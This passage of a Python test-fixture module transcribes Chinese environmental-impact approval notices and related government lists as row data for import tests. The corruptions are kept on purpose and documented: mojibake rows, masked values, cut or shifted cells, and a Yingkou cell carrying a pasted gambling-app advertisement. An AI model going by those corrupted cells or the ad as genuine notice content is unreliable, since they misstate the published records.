    ["根據(jù)建設(shè)項(xiàng)目環(huán)境影響評價(jià)審批程序的有關(guān)規定,2024年11月4日-2024年11月8日我部共受理3個建設(shè)"
     "項(xiàng)目環(huán)境影響評價(jià)文件?,F(xiàn)將受理情況予以公示,公示期為2024年11月14日-2024年11月27日(10個工作日)。"],
    ["序號", "項(xiàng)目名稱", "建設地點(diǎn)", "建設單位", "環(huán)境影響 評價(jià)機(jī)構", "受理日期"],
    ["1", "新疆廣匯實(shí)業(yè)投資集團(tuán)伊吾廣匯礦業(yè)有限公司淖毛湖礦區(qū)馬朗一號煤礦1000萬噸/年項(xiàng)目",
     "新疆維吾爾自治區(qū)哈密市巴里坤哈薩克自治縣", "伊吾廣匯礦業(yè)有限公司", "中煤科工集團(tuán)北京華宇工程有限公司",  # noqa: E501
     "2024-11-05"],
    ["2", "晉能控股裝備制造集團(tuán)山西高平源野煤業(yè)有限公司晉城礦區(qū)溝底礦井及選煤廠新建工程(500萬噸/年)",
     "山西省晉城市高平市", "山西高平源野煤業(yè)有限公司", "煤炭工業(yè)太原設(shè)計(jì)研究院集團(tuán)有限公司", "2024-11-05"],  # noqa: E501
    ["3", "天津市濱海新區(qū)", "國能(天津)港務(wù)有限責(zé)任公司", "天科院環(huán)境科技發(fā)展(天津)有限公司", "2024-11-06"],  # noqa: E501
]

_LUYANGHU_HEAD = ["序号", "项目\n名称", "建设\n地点", "建设\n单位", "环评\n单位", "项目概况", "主要环境影响及\n对策和措施"]  # noqa: E501
LISTS6_LUYANGHU = [
    ["卤阳湖环保分局关于2016年6月27日拟作出的建设项目环境影响评价文件审批意见的公示"],
    ["来源:卤阳湖现代产业开发区 发布时间:2016-07-01 16:43"],
    _LUYANGHU_HEAD,
    ["1", "渭南卤阳湖开发区旅游综合体建设项目", "卤阳湖开发区", "渭南卤阳湖投资置业有限公司", "陕西省现代建筑设计研究院",  # noqa: E501
     "主要建设仿汉廊桥长120米;游客服务中心一处,建筑面积约1000平方米;铺设道路4条,长7.28公里;给水管网7.28公里;"
     "排水、雨水管网各15公里;供配电管网7.5公里;照明路灯200盏;绿化面积20000平方米。", "详见该项目环境影响报告书"],
    [],
    _LUYANGHU_HEAD,
    ["2", "渭南卤阳湖现代产业综合开发区城镇基础设施建设二期工程(天信路)", "卤阳湖开发区", "渭南卤阳湖投资置业有限公司",
     "陕西省现代建筑设计研究院", "主要建设桥梁及连接段工程,排水、人行道、", ""],
]

LISTS6_PUCHENG = [
    ["关于2024年5月22日拟作出的建设项目环境影响评价文件审批意见的公示"],
    ["序号", "项目名称", "建设地点", "建设单位", "环评单位", "项目概况", "主要环境影响及对策措施", "公众参与情况"],
    ["1", "蒲城排碱渠改造提升综合利用二期 8 万千瓦光伏发电项目(升压站)", "蒲城县", "陕西华电渭北新能源有限公司",
     "汉中市环境工程规划设计集团有限公司",
     "新建 1座升压站,主变容量为1×80MVA,及其配套设施。新增占地面积3867.5m2。项目总投资2882万元,环保投资47万元,"
     "其中环保投资约1.63%。", "01报告表.pdf", "报告表类项目,未开展公众参与调查。"],
]

LISTS6_TAIJIANG = [
    ["福州市台江区环境保护局"], ["2018年7月3日"],
    ["序号", "项目名称", "建设地点", "建设单位", "环境影响评价机构", "受理日期", "环境影响评价文件"],
    ["1", "福州华伦中学搬迁新建校区", "福州市台江区光明港二支河北侧,鳌峰原人造板厂地块", "福州华伦中学",
     "福建省环境保护设计院有限公司", "2018-7-3", "详见附件"],
    ["注:根据《建设项目环境影响评价政府信息公开指南(试行)》的有关规定,上述环境影响报告书、表不含涉及国家秘密、"
     "商业秘密、个人隐私以及涉及国家安全、公共安全、经济安全和社会稳定的内容。"],
]

LISTS6_BAOTOU = [
    ["根據(jù)建設(shè)項目環(huán)境影響評價審批程序的有關(guān)規定,我局共受理1個建設(shè)項目環(huán)境影響報告,現(xiàn)將受理情況予以公示。"
     "公示期為2020年4月2日-2020年4月15日(10個工作日)。"],
    ["序號", "建設(shè)單位", "建設(shè)項目名稱", "建設(shè)地點", "建設(shè)內(nèi)容"],
    ["1", "包頭金屬深加工園區(qū)管委會", "包頭金屬深加工園區(qū)第一凈水廠項目", "110國道南側(cè),巨福路以北,新七號橋以西區(qū)域",  # noqa: E501
     "項目總占地面積15850m2,設(shè)計規(guī)模為日配水供水能力3萬m3/日,主要建設(shè)內(nèi)容包括提升泵房、配水池、濾池、清水池等。"],
]

LISTS6_GUANYUN = [
    ["根据建设项目环境影响评价审批程序的有关规定,经审议,2025年9月28日我局拟对下列建设项目环境影响评价文件作出审批意见。"],
    ["通讯地址:灌云县政务服务中心生态环境局窗口"],
    ["序号", "建设单位", "项目名称", "拟批复意见"],
    ["1", "灌云县聚源新能源有限公司", "中电建洋桥农场渔光互补光伏发电项目",
     "关于灌云县聚源新能源有限公司中电建洋桥农场渔光互补光伏发电项目环境影响报告表拟批复意见(1).doc"],
    ["2", "连云港怀勇科技发展有限公司", "年产 10 万吨环保型融雪剂(一期)重新报批",
     "关于连云港怀勇科技发展有限公司 年产10万吨环保型融雪剂(一期)重新报批项目环境影响报告表拟批复意见.doc"],
]

LISTS6_GAOYOU = [
    ["拟对核与辐射项目环评文件作出审批意见的公示(2023年12月5日)"],
    ["序号", "项目名称", "建设地点", "建设单位", "环境影响评价机构", "项目概况",
     "主要环境影响及预防或者减轻不良环境影响的对策和措施", "公众参与情况"],
    ["1", "高邮聚合光伏发电有限公司高邮周山镇 100MW 渔光互补发电项目配套110kV升压站工程", "高邮市周山镇工业集中区内",
     "高邮聚合光伏发电有限公司", "江苏通凯生态环境科技有限公司", "新建 1座110kV升压站。",
     "①电磁环境: 电器设备合理布局,保证导体和电视设备安全距离,设置防雷接地保护装置;运行期间,沿线设置警示和防护指示标志,"
     "制定监测计划并落实。\n②噪声: 选用低噪声主变,充分利用建筑物和场地空间进一步降低可听噪声。\n③生态环境: 运行期间加强巡查和"  # noqa: E501
     "检查,强化设备检修维护人员的生态环境保护意识教育,并严格管理,避免对项目周边的自然植被和生态系统的破坏。",
     "已在扬州市高邮生态环境局网上进行了受理公示,公示期间无反对意见。"],
]

LISTS6_JINGXIAN = [
    ["拟批准环境影响评价文件的建设项目"],
    ["序号", "项目名称", "建设地点", "建设单位", "环境影响评价机构", "项目概况",
     "主要环境影响及预防或者减轻不良环境影响的对策和措施"],
    ["#", "### ### 工程", "河北衡水景县", "###", "###",
     "### ,将“ ### 景县##兆瓦风力发电项目” ### 内##kV母线上升压至###kV。 ### 由综合楼、##kV配电舱、辅助用房、联合泵房、"
     "主变压器基础及油池、架构及避雷针、接地变、消防蓄水池、事故油池、 ### 理装置等组成。",
     "#、本项目用地不涉及生态红线,满足生态红线保护要求。#、 ### 及输电路径占地范围内,不涉及河道、渠道。"],
]

LISTS6_ZHEJIANG = """有关市、县(市、区)人民政府、省级有关部门(单位):
经省政府同意,现将2016年第二批省重点建设项目增补名单印发给你们。
附件:2016年第二批省重点建设项目增补名单
温州弘泰泰顺三魁35MWp农林光互补发电项目
浙能乐清发电有限责任公司25兆瓦光伏发电项目
嘉兴发电厂光伏发电项目
浙能长兴地面光伏电站项目
衢州市正泰新能源柯城160MW光伏生态公园项目
舟山500千伏联网输变电工程
舟山六横电厂光伏电站项目
玉环晶能电力经济开发区120MWP农光互补地面光伏发电项目
海宁市浙江晶科能源有限公司新增年产1200兆瓦太阳能电池组件及300兆瓦太阳能电池生产线技改项目
海宁市浙江国能新能源有限公司年产6亿安时高性能动力电池生产线项目
长兴县浙江天能动力能源有限公司年产1500万KVAh新能源汽车用动力(储能)电池建设项目
FR:浙江发改委
"""

LISTS6_JUXIAN = [
    ["根據(jù)《建設(shè)項目環(huán)境影響評價政府信息公開指南(試行)》的要求,我局將于2026年3月4日就環(huán)境影響評價文件受理情況"
     "進(jìn)行公開,并征求公眾意見。"],
    ["項目名稱", "年產(chǎn)10萬立方米新型建筑木結(jié)構(gòu)材料項目"],
    ["環評報告書(表)", "******有限公司年產(chǎn)10萬立方米新型建筑木結(jié)構(gòu)材料項目"],
    ["建設地點", "莒縣招賢鎮(zhèn)工業聚集區(qū)招賢南路(206國道)以西、鴻泰路以北"],
    ["建設單位", "******有限公司"],
    ["環境影響評價機(jī)構", "******有限公司"],
    ["受理日期", "2026-3-4"],
    ["備注", ""],
]

LISTS6_XIANGXIANG = [
    ["根据《中华人民共和国环境保护法》、《中华人民共和国环境影响评价法》有关规定,经审查,2024年11月15日我局对湘乡市"
     "经开区100MW/200MWh储能电站项目变更环境影响评价作出审批决定。"],
    ["项目名称", "湘乡市经开区100MW/200MWh储能电站项目(变更)"],
    ["建设单位", "******有限公司"],
    ["审批文书", ""],
]

LISTS6_XIANGXI = [
    ["1-9月份州重点项目投资完成情况汇总表"],
    ["单位:个、亿元"],
    ["隶 属", "项目个数", "年投资计划", "完成投资额", "年计划投资完成率"],
    ["吉首市", 57, 82.5, 65.1, "78.9%"], ["泸溪县", 27, 42.6, 31.2, "73.2%"], ["凤凰县", 34, 78.5, 62.9, "80.1%"],
    ["古丈县", 24, 23.4, 19.0, "81.2%"], ["花垣县", 21, 46.0, 37.1, "80.7%"], ["保靖县", 24, 41.9, 30.9, "73.7%"],
    ["永顺县", 23, 51.0, 42.3, "82.9%"], ["龙山县", 21, 51.7, 40.9, "79.1%"], ["湘西高新区", 27, 66.4, 53.1, "80.0%"],
    ["州 直", 58, 156.7, 92.0, "58.8%"],
]

LISTS6_NINGBO = [
    ["一、债券基本信息"],
    ["债券名称", "2021年宁波市其他项目收益专项债券(九期)--2021年宁波市政府专项债券(十三期)", "债券类型",
     "¨土地储备 ¨棚户区改造 þ交通基础设施 ¨政府收费公路 ¨铁路 þ轨道交通 þ城市停车场 ¨其他交通基础设施 þ能源 þ城市电网 "
     "¨天然气管网 ¨储气设施 þ其他能源项目 þ农林水利 ¨生态环保 ¨城镇污水垃圾处理 ¨其他 þ民生服务 ¨职业教育 ¨托幼 "
     "¨其他教育项目 þ医疗 ¨养老 þ其他民生服务 ¨冷链物流设施 þ市政和产业园区基础设施 ¨城镇老旧小区改造 ¨新型基础设施 "
     "¨信息基础设施 ¨融合基础设施 ¨创新基础设施 þ扶贫 ¨乡村振兴 ¨文化旅游 þ其他"],
    ["计划发行额(亿元)", "30.4000", "债券期限", "30年"],
    ["其中:用于符合条件的重大项目(亿元)", "0.0000", "招标/承销日", "2021-09-23"],
    ["信用评级结果", "AAA", "还本方式", "到期一次还本"],
    ["二、项目总体信息"],
    ["对应项目数量(个)", "16"],
    ["债券存续期内项目总投资(亿元)", "411.7184"],
    ["其中:不含专项债券的项目资金(亿元)", "203.5013"],
    ["专项债券融资(亿元)", "95.3000"],
    ["其他债务融资(亿元)", "112.9171"],
    ["项目分年融资计划(亿元)"],
    ["", "2018年及以前年度", "2019年", "2020年", "2021年", "2022年", "2023年", "2024年", "2025年", "2026年及以后年度"],
    ["专项债券融资", "0.0000", "0.0000", "13.5000", "50.3000", "20.6000", "6.6000", "2.6000", "1.3000", "0.4000"],
    ["其他债务融资", "19.1600", "18.5000", "26.2100", "31.1338", "12.1946", "5.7187", "0.0000", "0.0000", "0.0000"],
    ["债券存续期内项目总收益(亿元)", "590.4898"],
    ["债券存续期内项目分年收益(亿元)"],
    ["2021年", "-0.0211", "2022年", "5.3534", "2023年", "2.1036", "2024年", "11.4721", "2025年", "12.6165", "2026年",
     "12.8882"],
]

LISTS6_SHENXIAN = [
    ["四、公開內(nèi)容"],
    ["項目名稱", "項目類型", "建設單位", "驗收調(diào)查(監(jiān)測)報告編制單位", "驗收監(jiān)測 (現(xiàn)場檢查) 驗收意見全本"],  # noqa: E501
    ["新建病房樓項目(一期)", "竣工環(huán)境保護驗收", "莘縣人民醫(yī)院傳染病分院(莘縣莘亭街道社區(qū)衛(wèi)生服務中心)",  # noqa: E501
     "山東錦航環(huán)保科技有限公司", "全本下載"],
]

LISTS6_CSV = {  # file name -> (rows, encoding as the writer stores it)
    "lists6_shenxian_acceptance.csv": (LISTS6_SHENXIAN, "utf-8"),
    "lists6_mee_acceptance.csv": (LISTS6_MEE, "utf-8"),
    "lists6_luyanghu_eia.csv": (LISTS6_LUYANGHU, "gbk"),
    "lists6_pucheng_eia.csv": (LISTS6_PUCHENG, "utf-8"),
    "lists6_taijiang_eia.csv": (LISTS6_TAIJIANG, "gb18030"),
    "lists6_baotou_eia.csv": (LISTS6_BAOTOU, "utf-8"),
    "lists6_guanyun_eia.csv": (LISTS6_GUANYUN, "utf-8-sig"),
    "lists6_gaoyou_eia.csv": (LISTS6_GAOYOU, "utf-8"),
    "lists6_jingxian_eia_hashes.csv": (LISTS6_JINGXIAN, "utf-8"),
    "lists6_juxian_eia_transposed.csv": (LISTS6_JUXIAN, "utf-8"),
    "lists6_xiangxiang_eia_decision.csv": (LISTS6_XIANGXIANG, "utf-8"),
    "lists6_ningbo_bond_form.csv": (LISTS6_NINGBO, "utf-8"),
}


def write_lists6() -> None:
    write_csvs(LISTS6_CSV)
    (HERE / "lists6_zhejiang_2016_names.txt").write_bytes(LISTS6_ZHEJIANG.encode("utf-8"))
    _lists4_sheet(HERE / "lists6_xiangxi_progress.xlsx", "Sheet1", LISTS6_XIANGXI, ("A1:E1", "A2:E2"))


# ------------------------------------------------------------------------------ s29-lists7
# Real published lists, round 7 (issue 12): county, zone and prefecture notices from the west and the
# northeast (甘肃, 陕北, 兵团, 锡林郭勒, 辽宁, 青海), a ministry's list of cities, and decision tables whose names
# the stored copy lost (pictures) or shifted a cell. Transcribed as each stored page shows it: rows as
# published, a cell the copy cuts off kept as cut, masks (略, *, ******) kept. Tests in
# tests/test_import_lists7.py. Sources (page date):
#   lists7_lanzhou_matan_eia.csv       (兰州市环境保护局, 公示 2014-12-09, page 2015-07-02; two districts in one cell)
#     https://sthjj.lanzhou.gov.cn/art/2015/7/2/art_5885_234715.html
#   lists7_weiyuan_eia.csv             (定西市生态环境局渭源分局, 2024-06-06; a year at the head of the name)
#     https://dx.chinamae.com/news/f2bab3972ce273a9a922e436b8a0d1f8.html
#   lists7_gansu_masked_eia.csv        (甘肃省生态环境厅, 2023-06-06, a bid site's copy with places hidden by (略))
#     https://m.bidcenter.com.cn/news-17-231711131.html
#   lists7_wuqi_masked_amounts.csv     (吴起县行政审批服务局, 2024-03-27, amounts hidden by *; row 2 cut)
#     https://ixbang.com/bid/detail/48F84A395198BFEA087DC617434DA217.html
#   lists7_kekedala_regiments_eia.csv  (兵团第四师可克达拉市, 2017-03-29; sites are regiments, 62团; row 2 cut)
#     http://www.cocodala.gov.cn/html/1647/2017-03-29/content-6229.html
#   lists7_duolun_acceptance.csv       (锡林郭勒盟生态环境局, 受理 2023-12-23; a zone's park as the site)
#     https://ixbang.com/bid/detail/E412D88B3AA84339AF9705DA0CA65FAB.html
#   lists7_sunite_acceptance.xlsx      (锡林郭勒盟生态环境局, 受理 2024-04-09; a banner's industrial park)
#     https://m.mysteel.com/a/24041011/15A4ED365F48A816_abc.html
#   lists7_nmg_decisions_shifted.csv   (内蒙古自治区生态环境厅, 审批决定 2026-02-11/12; names are pictures the copy
#     lost, and two rows shifted left) https://sthjt.nmg.gov.cn/bsfw/ywgs_8218/hppzxmgg/202602/t20260227_2866096.html
#   lists7_yingkou_decisions.csv       (营口市行政审批局, 2023-03-28; a gambling ad pasted into a cell)
#     https://zwnyly.com/yshjjsj/002/002001/20230328/88182a22-9ea0-4664-a915-17a3c5c8909e
#   lists7_panjin_zone_decisions.csv   (盘锦辽东湾新区行政审批服务局, 2022-03-30; document numbers cut to 辽东湾行审)
#     https://ldwxq.panjin.gov.cn/2022_03/30_11/content-368330.html
#   lists7_liaoning_masked_eia.xlsx    (辽宁省生态环境厅, 2024-01-25, a bid site's copy; site 大连)
#     https://m.bidcenter.com.cn/news-17-269997949.html
#   lists7_anshan_names.csv            (鞍山市生态环境局, 2025-03-17; a spaced header 项 目 名 称, names only)
#     http://spj.anshan.gov.cn/xxgk/025001/20250321/df244d36-7e27-499d-bfe8-5e6f8974df88.html
#   lists7_xining_trad_eia.csv         (西宁市城中区生态环境局, 2021-10-19, a repost: traditional with pinyin, and a
#     cell ending in mojibake and a </p> tag) http://dieshihui.com/info/3929/158899.htm
#   lists7_dawa_form.txt               (盘锦市大洼区环境保护局, 2018-08-27, label:value lines, no table)
#     http://dawa.gov.cn/2018_09/30_09/content-182544.html
#   lists7_miit_cities_2022.csv        (工业和信息化部, 2022-02-21 拟入选推荐名单, a repost: traditional; cities only)
#     http://ahamp.cn/Home/Article/show/id/5069.html

LISTS7_LANZHOU = [
    ["根据建设项目环境影响评价审批程序的有关规定,经审议,我局拟对马滩110kV送变电工程环境影响报告表作出批复决定。"],
    ["公示期:2014年12月9日——2014年12月13日(5个工作日)"],
    ["序号", "项目名称", "建设地点", "建设单位", "基本情况"],
    ["1", "马滩110kV送变电工程环境影响报告表", "兰州市 七里河、安宁区", "国网甘肃省电力公司兰州供电公司",
     "本工程拟建的110KV马滩变电站站址位于兰州市七里河区秀川街道马滩社区马滩中街。本期新建2×50MVA主变。线路分为110kV桃"
     "(树村)马(滩)线路工程、110kV黄(峪)马(滩)线路工程、110kV桃(树村)银(滩)线路工程和110kV黄(峪)银(滩)线路工程。"
     "工程总投资为6834万元,其中环保投资约76.495万元,环保投资占总投资比例约为1.11%。"],
]

LISTS7_WEIYUAN = [
    ["公示期为2024年6月6日-2024年6月14日(5个工作日)。"],
    ["一、拟批准环境影响评价文件的建设项目"],
    ["序号", "项目名称", "建设地点", "建设单位", "环评机构", "项目概况", "主要环境影响及预防或者减轻不良环境影响的对策和措施",  # noqa: E501
     "环境保护措施承诺文件(文件链接)", "公众参与情况"],
    ["1", "2022年黄河流域渭源县水生态综合治理及生态廊道建设工程", "甘肃省定西市渭源县清源镇", "渭源县水利工程建设与质量安全中心",  # noqa: E501
     "******有限公司", "项目治理范围为渭河长城路桥至渭河柯寨路桥下游570m,治理河段总长约2.6km",
     "施工期材料的堆场堆置土石方采用防尘网苫盖。对开挖堆置的土方进行临时围挡土石方开挖、填筑及装卸过程喷水抑尘。"
     "废水用于临时堆场的洒水抑尘,不外排;降低施工噪声。", "/", "/"],
]

LISTS7_GANSU = [
    ["甘肃省生态环境厅2023年06月06日拟作出的建设项目环境影响评价文件审批意见的公示"],
    ["一、拟批准环境影响评价文件的建设项目"],
    ["序号", "项目名称", "建设地点", "建设单位", "环评机构", "项目概况", "主要环境影响及预防或者 减轻不良环境影响的对策和措施",  # noqa: E501
     "环境保护措施承诺文件(文件链接)", "公众参与情况"],
    ["1", "新建平凉至庆阳铁路", "(略) 、 (略)", "中国铁 (略) 兰州工程建设指挥部", "中铁第 (略) (略)",
     "新建正线全长83.326km, (略) 境内72.8km, (略) 境内10.8km;西平线增建二线长度12.9km。设车 站4座(庆阳站、北石窟站、"
     "镇原站、白水站)。正线速度目标值160km/h、增建二线120km/h。",
     "一、生态:对立地条件较好的区间路基两侧可绿化地段采取种植灌木的绿化措施;在站区新增用地中采用乔、灌木、草结合的布设原则进行"
     "绿化设计。工程临时用地尽量在永久占地范围内施工,减少土地占用和对动物栖息地植被的破坏。在铁路建设中应该合理利用土地资源,"
     "提高土地利用率,尽量减少对耕地,特别是基本农田的占用。减少水土流失。二、噪声、振动:施工单位应当按照规定制定噪声污染防治"
     "实施方案,采取有效措施,减少振动、降低噪声;本次工程设置声屏障和隔声窗措施。建议有关部门,通 (略) 规划,不在不同区段达标"  # noqa: E501
     "距离范围内新建居民住宅、学校、医院等敏感建筑物。三、水环境:车站生活污水经 ("],
]

LISTS7_WUQI = [
    ["吴起县行政审批服务局2024年3月27日拟作出的建设项目环境影响评价文件批复决定的公示"],
    ["公示期为2024年3月27日-2024年4月2日(5个工作日),公众可以以信函、传真、电子邮件等方式提交书面意见。"],
    ["序号", "项目名称", "建设地点", "建设单位", "环评单位", "项目概况", "主要环境影响及对策措施", "公众参与情况"],
    ["1", "(略) 吴起县周湾水库除险加固工程", "吴起县北部无定河流域红柳河上游石拐子沟", "吴起县水务局", "西安 (略)",
     "项目位于吴起县北部无定河流域红柳河上游石拐子沟,为周湾水库除险加固项目。本项目主要建设内容包括:大坝加固工程、放水设施"
     "加固工程、安全监测工程、管理设施、机电及金属结构等。项目总投资*元,其中环保投资*元,占总投资的3.31%。",
     "环境影响报告表(全文链接)", "公众 (略) 站公示方式进行。调查结果显示,被调查公众无反对意见。"],
    ["2", "(略) 吴起县边墙渠水库除险加固工程", "吴起县长城镇边墙渠村", "吴起县水务局", "西安 (略)",
     "项目位于吴起县长城镇边墙渠村,为边墙渠水库除险加固项目。本项目主要建设内容包括:坝肩防渗加固、大坝加固(上游坝坡、下游"
     "坝坡、排水及反滤体、 (略) 面)、放水建筑物加固(放水塔闸门改造、放水洞渗水段加固、放水洞出口陡坡及消力池加固、新"],
]

LISTS7_KEKEDALA = [
    ["根据建设项目环境影响评价审批程序的有关规定,经审查,2017年3月29日我局拟对6个建设项目环境影响评价文件作出审批意见。"],
    ["拟批准环境影响评价文件的建设项目"],
    ["序号", "项目名称", "建设地点", "建设单位", "环境影响评价机构", "项目概况",
     "主要环境影响及预防或者减轻不良环境影响的对策和措施"],
    ["1", "霍尔果斯西域金源农业科技有限公司果蔬脆片及脱水蔬菜加工项目", "62团", "霍尔果斯西域金源农业科技有限公司",
     "新疆奥邦科技有限公司",
     "本项目位于新疆生产建设兵团霍尔果斯口岸工业园区(A区)霍都公路东侧。项目总占地面积18882㎡(28.35亩),总建筑面积8711.82㎡。"
     "本项目主要建设內容为新建果蔬脆片系列食品加工生产线一条。工程总投资3000万元,环保投资42万元,占总投资的1.4%。",
     "严格落实污染防治措施。噪声满足《建筑施工场界环境噪声排放标准》(GB12523-2011)标准、《工业企业厂界环境噪声排放标准》"
     "(GB12348-2008)中3类标准。 废气满足《锅炉大气污染物排放标准》(GB13271-2014);《饮食业油烟排放标准》(GB18438-2001)"
     "中相关标准。废水满足《污水综合排放标准》(GB8978-1996)"],
    ["2", "六十一团年产6000吨秸秆颗粒饲料厂建设项目", "61团", "伊犁牧辰农牧有限公司", "新疆奥邦科技有限公司",
     "本项目位于六十一团园林二连,阿力玛里工业园区戍边路以西,本项"],
]

LISTS7_DUOLUN = [
    ["根据建设项目环境影响评价审批程序的有关规定,2023年12月23日我局共受理1个建设项目环境影响评价文件。"],
    ["序号", "项目名称", "建设地点", "建设单位", "评价机构", "受理日期"],
    ["1", "内蒙古多伦县宏盛化工综合利用项目环境影响报告书", "多伦经济开发区化工新材料循环产业园", "内 (略)", "内蒙古 (略)",  # noqa: E501
     "2023年12月23日"],
    ["注:1.环境影响报告书(表)查阅方式:见附件"],
    ["公众反馈意见联系方式:锡林郭勒盟生态环境局0479-*"],
    ["2.根据《建设项目环境影响评价政府信息公开指南(试行)》的有关规定,上述环境影响报告书不含涉及国家秘密、商业秘密、个人隐私"
     "以及涉及国家安全、公共安全、经济安全和社会稳定的内容。"],
]

LISTS7_SUNITE = [
    ["根据建设项目环境影响评价审批程序的有关规定,2024年4月9日我局共受理1个建设项目环境影响评价文件。"],
    ["序号", "项目名称", "建设地点", "建设单位", "评价机构", "受理日期"],
    ["1", "苏尼特右旗新蒙新材料有限公司46.5万吨铁合金新能源冶炼、尾渣及余气余热综合利用高质量发展循环经济项目",
     "内蒙古锡林郭勒盟苏尼特右旗朱日和工业园区南区治金产业园", "苏尼特右旗新蒙新材料有限公司", "内蒙古永鑫环保服务有限公司",  # noqa: E501
     "2024年4月9日"],
    ["注:1、环境影响报告书(表)查阅方式:见附件"],
    ["公众反馈意见联系方式:锡林郭勒盟生态环境局 0479-8234258"],
    ["2、根据《建设项目环境影响评价政府信息公开指南(试行)》的有关规定,上述环境影响报告书不含涉及国家秘密、商业秘密、个人隐私"
     "以及涉及国家安全、公共安全、经济安全和社会稳定的内容。"],
]

LISTS7_NMG = [
    ["建设项目环境影响评价文件审批决定"],
    ["序号", "文件名称", "文号", "发文时间"],
    ["1", "", "内环审〔2026〕18号", "2026年2月11日"],
    ["2", "内环审〔2026〕19号", "2026年2月11日", ""],
    ["3", "内环审〔2026〕20号", "2026年2月11日", ""],
    ["4", "", "内环审〔2026〕21号", "2026年2月12日"],
    ["5", "", "内环审〔2026〕22号", "2026年2月12日"],
]

LISTS7_YINGKOU = [
    ["项目名称", "审批文号", "审批时间"],
    ["营口市站前区银和医院新建100张床位项目", "营行审〔2023〕52号", "2023/3/21"],
    ["营口港仙人岛码头有限公司货种变更(新增液体石蜡)项目",
     "营行审〔2023〕55号 365体育app手机版下载_365bet体育在线投注官网_365bet电子游戏", "2023/3/21"],
    ["鞍钢股份鲅鱼圈分公司流化床氢气炼铁中试线项目", "营行审〔2023〕56号", "2023/3/21"],
    ["营口征程新材料科技有限公司8000吨/年氰乙酸及酯系列产品项目", "营行审〔2023〕60号", "2023/3/23"],
]

LISTS7_PANJIN = [
    ["关于2022年3月1—29日做出的建设项目环境影响评价文件审批决定的公告"],
    ["序号", "文件名称", "文号", "审批日期"],
    ["1", "北方华锦化学工业集团有限公司铁路专用线新建工程项目", "辽东湾行审", "2022/3/4"],
    ["2", "盘锦港荣兴港区西作业区302#液体化工泊位改建工程", "辽东湾行审", "2022/3/25"],
    ["3", "中节能(盘锦)清洁技术发展有限公司物化车间技改项目", "辽东湾行审", "2022/3/29"],
]

LISTS7_LIAONING = [
    ["辽宁省生态环境厅关于建设项目环境影响评价文件拟审批公示2024年1月25日"],
    ["拟作出审批意见的环境影响评价文件项目"],
    ["序号", "项目名称", "建设地点", "建设单位", "环评机构", "项目概况",
     "主要环境影响及预防或者减轻不良环境影响的对策和措施", "公众参与情况"],
    [1, "恒力石化(大连) (略) 长兴岛北岸作业区堆场工程填海工程", "大连", "恒力石化(大连) (略)", "大连 (略)",
     "填海工程原底面标高约为-8.70m至-1.72m,填海竣工后形成地面平均标高为+5.89m,回填方量144万方。\n土石方主要来源于后方*域"
     "场地平整。",
     "2019年和2021年,长兴岛经济技术开发区管委会针对长兴岛历史遗留问题用海图斑编制了《长兴岛(含西中岛)区域围填海项目生态"
     "保护修复方案》和《长兴岛(含西中岛)区域围填海项目生态保护修复补充方案》 (略) 自然资源厅审查,已经报自然资源部备案"
     "(自然资海域海岛函〔2022〕124号)。方案计划投入生态保护修复的资金约87150.21万元,其中包括本项目填海区域的生态修复补偿资金"
     "455.44万元。", None],
]

LISTS7_ANSHAN = [
    ["项目名单如下:"],
    ["序号", "项 目 名 称"],
    ["1", "海城市感王镇鸿亿纺织印花厂坯布染色、印花加工建设项目"],
    ["2", "岫岩满族自治县动物无害化处理中心项目"],
    ["3", "鞍钢化学科技有限公司化工事业部运输刷槽站洗刷尾气治理项目"],
    ["4", "鞍山市多福乐豆制食品有限公司现有醇基锅炉改天然气锅炉建设项目"],
    ["污染物治理措施见附件。"],
]

LISTS7_XINING = [
    ["西寧市城中區生態(tài)環(huán)境局"], ["2021年10月19日"],
    ["序號", "項(xiàng)目 名稱", "建設(shè)地點(diǎn)", "建設(shè)單位", "環(huán)評單位", "項(xiàng)目概況"],
    ["1", "青海省地質(zhì)調(diào)查院燃?xì)忮仩t房建設(shè)項(xiàng)目", "青海省西寧市城中區(qū)南川西路105號、107號",
     "青海省地質(zhì)調(diào)查院", "西寧朗天環(huán)??萍加邢薰?/p>",
     "本項(xiàng)目為新建項(xiàng)目,建設(shè)地點(diǎn)位于青海省西寧市城中區(qū)南川西路105號、107號。本項(xiàng)目鍋爐房占地面積約1300㎡,"
     "建筑面積約為547㎡,共設(shè)置4臺4t/h燃?xì)夤┡仩t,其中已有4臺4t/h燃?xì)忮仩t,本次更換1臺4t/h燃?xì)忮仩t,3臺進(jìn)行低氮"
     "改造。改造后降低鍋爐能耗,總的耗氣量為90萬m3/a,由天然氣公司提供。"],
    ["文章來源:城中區(qū)生態(tài)環(huán)境局"],
]

LISTS7_DAWA = """关于对盘锦东旺饲料有限公司建设项目环境影响报告表拟审批决定的公示
根据建设项目环境影响评价审批程序的有关规定,经审查,2018年8月27日盘锦市大洼区环境保护局对田家街道污水处理厂工程项目环境影响报告表作出拟审批意见。
联系电话:0427-3478066
通讯地址:盘锦市大洼区行政审批局环保局窗口
邮 编:124200
项目名称:田家街道污水处理厂工程
建设地点:盘锦市大洼区田家街道高家村
建设单位:盘锦市大洼区田家街道办事处
环评机构:核工业二四〇研究所
审批部门:盘锦市大洼区环境保护局
项目概况:项目总占地面积29333.5平方米。拟投资8000万元在盘锦市大洼区田家街道高家村建设一座日处理污水2.5万吨污水处理厂。
"""

LISTS7_MIIT = [
    ["附件1"], ["2021年度工業(yè)穩(wěn)增長和轉型升級成效"], ["明顯市(州)擬入選推薦名單"],
    ["序號", "市(州)"],
    ["1", "北京市大興區(qū)"], ["2", "內蒙古自治區(qū)包頭市"], ["3", "江蘇省常州市"], ["4", "浙江省紹興市"],
    ["5", "福建省廈門市"], ["6", "江西省上饒市"], ["7", "湖北省武漢市"], ["8", "湖南省株洲市"], ["9", "廣東省深圳市"],
    ["10", "重慶市巴南區(qū)"],
    ["注:按行政區(qū)劃排列,排名不分先后。"],
]

LISTS7_CSV = {  # file name -> (rows, encoding as the writer stores it)
    "lists7_lanzhou_matan_eia.csv": (LISTS7_LANZHOU, "gbk"),
    "lists7_weiyuan_eia.csv": (LISTS7_WEIYUAN, "utf-8"),
    "lists7_gansu_masked_eia.csv": (LISTS7_GANSU, "utf-8"),
    "lists7_wuqi_masked_amounts.csv": (LISTS7_WUQI, "utf-8-sig"),
    "lists7_kekedala_regiments_eia.csv": (LISTS7_KEKEDALA, "utf-8"),
    "lists7_duolun_acceptance.csv": (LISTS7_DUOLUN, "utf-8"),
    "lists7_nmg_decisions_shifted.csv": (LISTS7_NMG, "utf-8"),
    "lists7_yingkou_decisions.csv": (LISTS7_YINGKOU, "gb18030"),
